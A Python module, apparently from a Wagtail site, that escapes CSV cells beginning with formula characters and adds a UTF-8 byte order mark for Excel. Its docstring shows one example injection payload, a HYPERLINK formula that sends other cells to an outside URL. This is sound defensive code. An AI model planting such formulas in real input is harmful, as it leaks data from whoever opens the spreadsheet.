"""Downloads that open in a spreadsheet (the reports' CSV, the survey's answers): what people
typed must stay text there.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is
a formula to Excel, LibreOffice and Google Sheets: a member who signs up as
``=HYPERLINK("https://…?"&A1, "Open")`` would have the trainer's copy send other cells to
that address. An apostrophe in front makes the spreadsheet show the text as it was typed.
XLSX downloads are safe already: Wagtail writes every cell as a string, never a formula.

A CSV starts with a byte order mark: Excel, which members' offices open CSV files with, reads
a file without one in the computer's own code page (GBK on a Chinese Windows), and 李明 and
the courses' Chinese titles would come out garbled. Other spreadsheets ignore the mark.
"""

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What every CSV download starts with: UTF-8's byte order mark.
CSV_START = "\ufeff"


def as_text_cell(value):
    """``value`` for a CSV cell: text that would start a formula gets a leading apostrophe;
    numbers, dates and other text are left alone."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class ExcelReadableCsv:
    """For views with Wagtail's spreadsheet downloads: the CSV starts with a UTF-8 byte order
    mark, so Excel reads its Chinese text as such."""

    def stream_csv(self, queryset):
        yield CSV_START
        yield from super().stream_csv(queryset)
